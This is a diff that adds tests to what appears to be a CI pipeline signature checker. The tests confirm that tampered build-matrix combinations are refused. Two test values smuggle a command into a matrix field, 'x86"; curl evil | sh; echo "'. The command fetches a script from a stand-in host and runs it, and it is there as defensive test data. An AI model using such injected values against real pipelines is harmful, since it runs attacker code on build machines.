@@ -151,3 +151,113 @@ def test_an_uploaded_signed_step_reaches_the_job_signed(world: World, tmp_path: 
     key = load_verification_key(public)
     assert check_payload(key, uploaded.payload, {"queue": "default"}) is None
     assert "queue=default" in str(check_payload(key, uploaded.payload, {"queue": "deploy"}))
+
+
+MATRIX_YAML = """
+steps:
+  - key: build
+    command: echo "build {{matrix.os}}/{{matrix.arch}} for $TARGET, not $$HOME"
+    env: {GOOS: "{{matrix.os}}"}
+    matrix:
+      setup:
+        os: [linux, mac]
+        arch: [x86, "$ARCH"]
+      adjustments:
+        - with: {os: mac, arch: x86}
+          skip: true
+        - with: {os: bsd, arch: x86}
+          soft_fail: true
+  - key: plain
+    depends_on: ~
+    command: echo "plain {{matrix}}"
+"""
+SHELL = 'x86"; curl evil | sh; echo "'
+
+
+def _substituted(payload: dict[str, Any], combo: dict[str, str]) -> dict[str, Any]:
+    """``payload`` for another combination, made consistent as a tampered server would."""
+    command = 'set -e\necho "build {{matrix.os}}/{{matrix.arch}} for prod, not $HOME"'
+    for name, value in combo.items():
+        command = command.replace(f"{{{{matrix.{name}}}}}", value)
+    env = {**payload["env"], "GOOS": combo["os"]}
+    return {**payload, "matrix": combo, "command": command, "env": env}
+
+
+def test_the_signature_binds_the_matrix_combinations(world: World, tmp_path: Path) -> None:
+    private, public = generate_keys(tmp_path)
+    signed = sign_pipeline(
+        MATRIX_YAML, load_signing_key(private), {"TARGET": "prod", "ARCH": "arm"}
+    )
+    key = load_verification_key(public)
+    payloads = list(_payloads(world, signed).values())
+    combos = sorted(str(p["matrix"]) for p in payloads if p["matrix"])
+    # The setup's cross product, minus the skipped one, plus the one an adjustment adds.
+    assert combos == sorted(
+        str(c)
+        for c in (
+            {"os": "linux", "arch": "x86"},
+            {"os": "linux", "arch": "arm"},
+            {"os": "mac", "arch": "arm"},
+            {"os": "bsd", "arch": "x86"},
+        )
+    )
+    for payload in payloads:
+        assert check_payload(key, payload, {"queue": "default"}) is None, payload
+    build = next(p for p in payloads if p["matrix"] == {"os": "linux", "arch": "x86"})
+    assert build["command"] == 'set -e\necho "build linux/x86 for prod, not $HOME"'
+    assert build["signed"]["matrix"]["setup"] == {"os": ["linux", "mac"], "arch": ["x86", "arm"]}
+    plain = next(p for p in payloads if "plain" in p["command"])
+    assert plain["signed"]["matrix"] is None
+
+    def refusal(payload: dict[str, Any]) -> str:
+        return str(check_payload(key, payload, {"queue": "default"}))
+
+    # A tampered server or database sends a combination the signed matrix does not make, with
+    # the command (and env) substituted to match: shell code, a skipped one, an unknown value.
+    for combo in (
+        {"os": "linux", "arch": SHELL},
+        {"os": "mac", "arch": "x86"},
+        {"os": "bsd", "arch": "arm"},
+        {"os": "linux"},
+        {"os": "linux", "arch": "x86", "extra": "1"},
+    ):
+        assert f"combination {combo!r} is not one the signed matrix makes" in refusal(
+            _substituted(build, combo)
+        ), combo
+    assert "is not one the signed matrix makes" in refusal({**build, "matrix": None})
+    assert "malformed" in refusal({**build, "matrix": "linux"})
+    # A valid combination whose substitution is not what the job runs, or not in its env.
+    other = _substituted(build, {"os": "mac", "arch": "arm"})
+    assert "not the signed command" in refusal({**other, "matrix": build["matrix"]})
+    assert "GOOS differs" in refusal({**build, "env": {**build["env"], "GOOS": "mac"}})
+    # The definition widened along with the combination, or a combination given to a step
+    # signed without a matrix (its command still says {{matrix}}).
+    widened = {**build["signed"]["matrix"], "setup": {"os": ["linux"], "arch": [SHELL]}}
+    tampered = _substituted(build, {"os": "linux", "arch": SHELL})
+    assert "does not match" in refusal(
+        {**tampered, "signed": {**build["signed"], "matrix": widened}}
+    )
+    shell = {"": '"; curl evil | sh; echo "'}
+    injected = {
+        **plain,
+        "matrix": shell,
+        "command": plain["command"].replace("{{matrix}}", shell[""]),
+    }
+    assert "the signed step has no matrix" in refusal(injected)
+
+
+def test_a_step_signed_without_its_matrix_is_refused(world: World, tmp_path: Path) -> None:
+    """The second format (agents, command, env, repository_url) binds no matrix combination."""
+    private, public = generate_keys(tmp_path)
+    key = load_signing_key(private)
+    body = {"agents": {}, "command": "echo {{matrix}}", "env": {}, "repository_url": ""}
+    text = json.dumps(body, sort_keys=True, separators=(",", ":")).encode()
+    value = base64.b64encode(key.sign(text)).decode()
+    yaml = (
+        "steps:\n  - command: echo {{matrix}}\n    matrix: [a]\n    signature:\n"
+        f"      algorithm: EdDSA\n      value: {value}\n"
+        "      signed_fields: [agents, command, env, repository_url]\n"
+    )
+    (payload,) = _payloads(world, yaml).values()
+    reason = check_payload(load_verification_key(public), payload, {"queue": "default"})
+    assert reason is not None and "second format" in reason and "sign the pipeline again" in reason
